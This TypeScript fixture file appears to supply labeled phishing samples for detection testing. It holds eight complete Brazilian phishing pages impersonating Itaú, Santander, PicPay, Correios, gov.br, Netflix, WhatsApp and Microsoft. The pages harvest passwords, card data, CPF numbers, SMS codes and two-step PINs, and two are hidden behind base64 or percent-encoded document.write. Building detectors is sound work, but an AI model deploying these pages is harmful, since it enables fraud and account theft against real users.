import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, pctAll, charCodes, revB64, xorHex, doc, wordmark, pixCode, qrSvg, maskJsBR, rutJs, gtag, cookieBar, newsShell } from '../parts/yk-kit.js';
import { zip, pe, cfb, iso, lnk, apk, rar5, sevenZip, fileRoute, jsRoute, cssRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yk-itau-agencia-conta-docwrite',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://itau-atualizacao-cadastral.online/pf/acesso',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Itaú</title><meta name="robots" content="noindex,nofollow"></head><body><script>
var _p="${b64(doc({
    title: 'Itaú | Acesse sua conta',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f4f4f4}.hd{background:#ec7000;height:64px;display:flex;align-items:center;padding:0 24px}
.box{max-width:380px;margin:40px auto;background:#fff;border-radius:8px;box-shadow:0 2px 10px rgba(0,0,0,.12);padding:28px}
h2{color:#003399;font-size:20px;margin:0 0 18px}label{font-size:13px;color:#555;display:block;margin-top:14px}
input{width:100%;padding:11px;border:1px solid #bbb;border-radius:4px;font-size:16px;margin-top:4px}.row{display:flex;gap:10px}
button{margin-top:22px;width:100%;background:#ec7000;color:#fff;border:0;padding:13px;border-radius:4px;font-size:16px;font-weight:bold}
.kb{display:grid;grid-template-columns:repeat(5,1fr);gap:6px;margin-top:10px}.kb span{background:#eee;text-align:center;padding:10px 0;border-radius:4px;cursor:pointer;font-weight:bold}
.al{background:#fff3e0;border-left:4px solid #ec7000;padding:10px;font-size:13px;margin-bottom:16px}`,
    body: `<div class="hd">${wordmark('Itaú', '#003399', { fg: '#fff', shape: 'square' })}</div>
<div class="box"><div class="al">Identificamos que seu cadastro está desatualizado. Para evitar o bloqueio do seu iToken, confirme seus dados.</div>
<h2>Acesse sua conta</h2>
<form method="post" action="/pf/next.php" id="fa">
<div class="row"><div><label>Agência</label><input name="agencia" maxlength="4" inputmode="numeric" required></div><div><label>Conta</label><input name="conta" maxlength="7" inputmode="numeric" placeholder="00000-0" required></div></div>
<label>Senha eletrônica (6 dígitos)</label><input name="senha" id="sn" type="password" maxlength="6" readonly required>
<div class="kb" id="kb"></div>
<label>Celular cadastrado</label><input name="cel" inputmode="tel" placeholder="(11) 90000-0000" required>
<button>Acessar</button></form></div>
<script>var k=document.getElementById("kb"),s=document.getElementById("sn"),d=[0,1,2,3,4,5,6,7,8,9].sort(function(){return Math.random()-.5});
for(var i=0;i<5;i++){var b=document.createElement("span");b.textContent=d[i*2]+" ou "+d[i*2+1];b.dataset.v=d[i*2]+""+d[i*2+1];b.onclick=function(){if(s.value.length<6){s.value+=this.dataset.v[0]}};k.appendChild(b)}</script>`,
  }))}";
document.open();document.write(decodeURIComponent(escape(atob(_p))));document.close();
</script></body></html>`,
},
{
  id: 'yk-santander-br-shortlink-chain',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://encurtador.app/sTd7q',
  routes: {
    'encurtador.app/sTd7q': redirectRoute(302, 'https://trk.envios-mailrelay.com/c/5a91f0e2?r=https%3A%2F%2Fsantander-pf-seguranca.com%2Fpf%2Flogin.html'),
    'trk.envios-mailrelay.com/c/5a91f0e2': redirectRoute(302, 'https://santander-pf-seguranca.com/pf/login.html'),
    'santander-pf-seguranca.com/pf/login.html': htmlRoute(doc({
      title: 'Santander | Internet Banking Pessoa Física',
      css: `body{margin:0;font-family:'Santander Text',Arial,sans-serif;background:#f5f9fb}.bar{background:#ec0000;color:#fff;padding:16px 28px;font-size:24px;font-weight:bold;letter-spacing:-.5px}
.in{max-width:400px;margin:50px auto;background:#fff;padding:30px;border-radius:4px;box-shadow:0 1px 4px rgba(0,0,0,.15)}
h2{font-weight:normal;color:#222;margin-top:0}input{width:100%;border:0;border-bottom:1px solid #999;padding:10px 2px;font-size:17px;margin-bottom:20px;background:transparent}
button{background:#ec0000;color:#fff;border:0;padding:13px 0;width:100%;border-radius:4px;font-size:16px}.w{font-size:12px;color:#ec0000;margin-bottom:14px}`,
      body: `<div class="bar">Santander</div><div class="in"><h2>Olá! Acesse sua conta</h2>
<div class="w">Compra não reconhecida de R$ 2.389,00 em seu cartão. Acesse para cancelar.</div>
<form method="POST" action="/pf/login.php"><input name="cpf" placeholder="CPF" data-mask="cpf" inputmode="numeric" required>
<input name="senha" type="password" placeholder="Senha de acesso" maxlength="8" required><input name="assinatura" type="password" placeholder="Senha do cartão (4 dígitos)" maxlength="4" required>
<button>Entrar</button></form></div>${maskJsBR}`,
    })),
  },
},
{
  id: 'yk-picpay-devolucao-pix-sms',
  label: 'phishing',
  kind: 'wallet-kit',
  url: 'https://picpay-estorno.app/devolucao?pix=E18236120202504291532s0',
  body: doc({
    title: 'PicPay - Devolução de Pix',
    css: `body{margin:0;font-family:'Inter',Arial,sans-serif;background:#11c76f}.box{background:#fff;max-width:400px;margin:40px auto;border-radius:16px;padding:26px}
.g{color:#11c76f;font-weight:800;font-size:26px}.amt{font-size:28px;font-weight:700;margin:10px 0}input{width:100%;padding:14px;border:1px solid #ddd;border-radius:10px;font-size:16px;margin:8px 0}
button{width:100%;padding:15px;border:0;border-radius:24px;background:#11c76f;color:#fff;font-weight:700;font-size:16px;margin-top:8px}.s2{display:none}.muted{color:#777;font-size:13px}`,
    body: `<div class="box"><div class="g">PicPay</div>
<p>Um Pix enviado a você foi identificado como <b>duplicado</b>. O valor abaixo será estornado automaticamente caso não haja confirmação.</p>
<div class="amt">R$ 650,00</div><div class="muted">ID: E18236120202504291532s0</div>
<form id="a"><input name="tel" placeholder="Celular cadastrado" data-mask="tel" required><input name="senha" type="password" placeholder="Senha do PicPay" required><button>Confirmar recebimento</button></form>
<form id="b" class="s2"><p class="muted">Enviamos um código por SMS para confirmar o acesso.</p><input name="codigo" placeholder="Código de 6 dígitos" maxlength="6" inputmode="numeric" autocomplete="one-time-code"><button>Validar</button></form></div>
${maskJsBR}
<script>
async function post(d){try{await fetch("/api/collect.php",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(d)})}catch(e){}}
document.getElementById("a").onsubmit=async function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));d.step="login";await post(d);this.style.display="none";document.getElementById("b").style.display="block"};
document.getElementById("b").onsubmit=async function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));d.step="sms";await post(d);location.href="https://picpay.com/"};
</script>`,
  }),
},
{
  id: 'yk-correios-taxa-importacao-cartao',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://correios-rastreio-taxa.com/objeto/NL829301745BR',
  body: doc({
    title: 'Correios - Rastreamento de Objetos',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f3f3f3;color:#333}.hd{background:#00416b;color:#fff;padding:14px 26px;display:flex;justify-content:space-between}
.hd b{color:#ffd000;font-size:22px}.m{max-width:680px;margin:22px auto;background:#fff;padding:24px;border-top:4px solid #ffd000}
.ev{border-left:3px solid #00416b;padding:6px 14px;margin:10px 0}.ev.r{border-color:#d0021b}.tx{background:#fff8d6;padding:14px;margin:18px 0;border-radius:4px}
input,select{width:100%;padding:11px;border:1px solid #ccc;font-size:15px;margin:4px 0 10px}.tabs button{padding:10px 16px;border:1px solid #ccc;background:#fafafa;cursor:pointer}
.tabs button.on{background:#00416b;color:#fff}.go{width:100%;background:#00416b;color:#fff;border:0;padding:14px;font-size:16px;margin-top:8px}#pix{display:none;text-align:center}`,
    body: `<div class="hd"><b>Correios</b><span>Rastreamento</span></div><div class="m">
<h2>Objeto NL829301745BR</h2>
<div class="ev"><b>Objeto postado</b><br>SHENZHEN - CHINA · 08/04</div>
<div class="ev"><b>Objeto recebido na unidade de exportação</b><br>País de origem · 12/04</div>
<div class="ev r"><b>Aguardando pagamento</b><br>CURITIBA/PR · Fiscalização aduaneira finalizada. Objeto será devolvido ao remetente em 3 dias úteis se não houver pagamento.</div>
<div class="tx">Imposto de importação + despacho postal: <b>R$ 47,90</b></div>
<div class="tabs"><button class="on" onclick="t(0)">Cartão de crédito</button><button onclick="t(1)">Pix</button></div>
<form id="cc" method="post" action="/objeto/pagamento.php"><input name="nome" placeholder="Nome impresso no cartão"><input name="cpf" placeholder="CPF" data-mask="cpf">
<input name="numero" placeholder="Número do cartão" data-mask="card"><input name="validade" placeholder="Validade MM/AA" data-mask="val"><input name="cvv" placeholder="CVV" maxlength="4">
<input type="hidden" name="obj" value="NL829301745BR"><button class="go">Pagar R$ 47,90</button></form>
<div id="pix"><p>Escaneie ou copie o código Pix:</p>${qrSvg('00020126580014br.gov.bcb.pix0136a1f3-47.90')}<p><small>${pixCode('a1f3c9e2-77b0-4c1d-9f5e-1b2c3d4e5f60', 'DESPACHO POSTAL LTDA', 'SAO PAULO', '47.90')}</small></p></div>
</div>${maskJsBR}
<script>function t(i){var b=document.querySelectorAll(".tabs button");b[0].classList.toggle("on",i===0);b[1].classList.toggle("on",i===1);document.getElementById("cc").style.display=i?"none":"block";document.getElementById("pix").style.display=i?"block":"none"}</script>`,
  }),
},
{
  id: 'yk-receita-cpf-irregular-govbr',
  label: 'phishing',
  kind: 'tax-agency-kit',
  url: 'https://gov-br.regularizacao-cpf.com/receita/cpf/',
  body: doc({
    title: 'gov.br - Receita Federal - Situação Cadastral',
    css: `body{margin:0;font-family:Rawline,Raleway,Arial,sans-serif;background:#f8f8f8;color:#333}.top{background:#fff;border-bottom:1px solid #ddd;padding:12px 24px;display:flex;gap:18px;align-items:center}
.gov{font-weight:900;font-size:24px;color:#1351b4}.gov span{color:#ffcd07}.blue{background:#1351b4;color:#fff;padding:20px 24px}
.c{max-width:560px;margin:24px auto;background:#fff;padding:26px;border-radius:4px;box-shadow:0 1px 6px rgba(0,0,0,.1)}.al{background:#fde0db;color:#b0130a;padding:12px;border-radius:4px;margin-bottom:16px}
label{font-weight:600;font-size:14px;display:block;margin-top:12px}input{width:100%;padding:10px;border:1px solid #888;border-radius:4px;font-size:16px;margin-top:4px}
button{background:#1351b4;color:#fff;border:0;border-radius:20px;padding:12px 30px;font-size:16px;margin-top:20px}`,
    body: `<div class="top"><div class="gov">g<span>o</span>v.br</div><span>Ministério da Fazenda</span></div>
<div class="blue"><h2 style="margin:0">Receita Federal</h2><div>Comprovante de Situação Cadastral no CPF</div></div>
<div class="c"><div class="al"><b>Situação: PENDENTE DE REGULARIZAÇÃO</b><br>Foram identificadas inconsistências na sua Declaração de Imposto de Renda. O CPF será <b>suspenso</b> em 48h, impedindo movimentações bancárias e emissão de documentos.</div>
<p>Entre com sua conta gov.br para consultar as pendências e emitir o DARF de regularização.</p>
<form method="post" action="/receita/cpf/auth.php"><label>CPF</label><input name="cpf" data-mask="cpf" inputmode="numeric" required>
<label>Senha gov.br</label><input name="senha" type="password" required>
<label>Nome da mãe</label><input name="mae" required>
<button>Entrar com gov.br</button></form></div>${maskJsBR}`,
  }),
},
{
  id: 'yk-netflix-br-pagamento-unescape',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://netflix-conta-suspensa.com/br/atualizar',
  body: `<html><head><meta charset="utf-8"><title>Netflix</title><script type="text/javascript">document.write(unescape('${pctAll(doc({
    title: 'Netflix',
    css: `body{margin:0;background:#000 url(/br/bg.jpg) center/cover;font-family:'Netflix Sans',Helvetica,Arial,sans-serif;color:#fff}.logo{color:#e50914;font-size:40px;font-weight:900;padding:20px 40px;letter-spacing:-1px}
.f{background:rgba(0,0,0,.78);max-width:450px;margin:0 auto;padding:50px 60px;border-radius:4px}h1{margin-top:0}input{width:100%;background:#333;border:0;border-radius:4px;color:#fff;padding:16px;font-size:16px;margin:8px 0}
button{width:100%;background:#e50914;color:#fff;border:0;border-radius:4px;padding:16px;font-size:16px;font-weight:bold;margin-top:20px}p{color:#b3b3b3;font-size:14px}`,
    body: `<div class="logo">NETFLIX</div><div class="f"><h1>Atualize seu pagamento</h1>
<p>Sua assinatura está suspensa porque não conseguimos processar a cobrança do plano Padrão (R$ 44,90). Atualize as informações para continuar assistindo.</p>
<form method="post" action="https://netflix-conta-suspensa.com/br/pay.php"><input name="name" placeholder="Nome no cartão"><input name="cc" placeholder="Número do cartão" inputmode="numeric">
<input name="exp" placeholder="Validade (MM/AA)"><input name="cvv" placeholder="CVV" maxlength="4"><input name="cpf" placeholder="CPF">
<button>Salvar e continuar</button></form></div>`,
  }))}'));</script></head><body></body></html>`,
},
{
  id: 'yk-whatsapp-codigo-verificacao',
  label: 'phishing',
  kind: 'social-account-kit',
  url: 'https://wa-seguranca-conta.com/verificar',
  body: doc({
    title: 'WhatsApp — Verificação de segurança',
    css: `body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#f0f2f5}.top{background:#00a884;height:120px}.card{max-width:420px;margin:-70px auto 0;background:#fff;border-radius:6px;padding:30px;box-shadow:0 2px 6px rgba(0,0,0,.12)}
h2{color:#41525d;font-weight:400}p{color:#667781;font-size:14px;line-height:1.5}input{width:100%;padding:12px;font-size:18px;border:0;border-bottom:2px solid #00a884;outline:0;margin:10px 0;letter-spacing:2px}
button{background:#00a884;color:#fff;border:0;border-radius:24px;padding:12px 30px;font-size:15px;margin-top:12px}`,
    body: `<div class="top"></div><div class="card">${wordmark('WhatsApp', '#25d366', { shape: 'circle' })}
<h2>Sua conta será desativada</h2><p>Detectamos que seu número está sendo usado em um dispositivo não reconhecido. Para manter sua conta ativa, confirme o número e o código de 6 dígitos que você recebeu por SMS.</p>
<form id="w"><input name="numero" placeholder="+55 (11) 9xxxx-xxxx" inputmode="tel" required><input name="codigo" placeholder="--- ---" maxlength="7" inputmode="numeric" required>
<input name="pin" placeholder="PIN da confirmação em duas etapas (se ativado)" maxlength="6" inputmode="numeric"><button>Verificar</button></form></div>
<script>document.getElementById("w").addEventListener("submit",function(e){e.preventDefault();
navigator.sendBeacon("/verificar/r.php",new URLSearchParams(new FormData(this)));
this.innerHTML="<p>Verificação concluída. Aguarde alguns minutos antes de abrir o aplicativo.</p>"});</script>`,
  }),
},
{
  id: 'yk-boleto-portal-lure-link',
  label: 'phishing',
  kind: 'document-lure',
  url: 'https://portal-cobranca-digital.com/b/9f31a7',
  body: doc({
    title: 'Portal de Cobrança - Documento disponível',
    css: `body{margin:0;font-family:'Segoe UI',Arial,sans-serif;background:#eef1f5}.c{max-width:520px;margin:70px auto;background:#fff;border-radius:8px;padding:30px;box-shadow:0 2px 10px rgba(0,0,0,.08)}
.f{display:flex;gap:14px;align-items:center;border:1px solid #e3e7ee;border-radius:6px;padding:14px;margin:18px 0}.ic{width:44px;height:54px;background:#d93025;color:#fff;font-weight:bold;display:flex;align-items:center;justify-content:center;border-radius:3px}
a.b{display:block;text-align:center;background:#0b57d0;color:#fff;text-decoration:none;padding:13px;border-radius:6px;font-weight:600}small{color:#777}`,
    body: `<div class="c"><h2>Você recebeu documentos de cobrança</h2><p>Remetente: <b>financeiro@grupomaxxi-contabil.com.br</b></p>
<div class="f"><div class="ic">PDF</div><div><b>Boleto_NF-e_004512_vencimento_30-04.pdf</b><br><small>2 páginas · 184 KB · protegido</small></div></div>
<p>Este documento é protegido. Para visualizar, confirme seu e-mail corporativo.</p>
<a class="b" href="https://docs-visualizar.net/auth/?doc=004512&e=">Visualizar documento</a><p><small>Link válido por 72 horas.</small></p></div>`,
  }),
  routes: {
    'docs-visualizar.net/auth/': htmlRoute(doc({
      title: 'Entrar na sua conta',
      css: `body{margin:0;background:#f2f2f2;font-family:'Segoe UI',Arial,sans-serif}.b{width:440px;margin:80px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px;margin:10px 0}button{float:right;background:#0067b8;color:#fff;border:0;padding:8px 32px;font-size:15px}
.prov{display:flex;gap:8px;margin-top:40px;clear:both}.prov span{flex:1;border:1px solid #ccc;text-align:center;padding:8px;font-size:13px}`,
      body: `<div class="b">${wordmark('Microsoft', '#f25022', { shape: 'square', h: 24 })}<h2>Entrar</h2><p>Para acessar o documento compartilhado, entre com sua conta.</p>
<form method="post" action="https://docs-visualizar.net/auth/go.php"><input name="login" type="email" placeholder="Email, telefone ou Skype" required><input name="passwd" type="password" placeholder="Senha" required><button>Entrar</button></form>
<div class="prov"><span>Outlook</span><span>Office 365</span><span>UOL</span><span>Outros</span></div></div>`,
    })),
  },
},
];
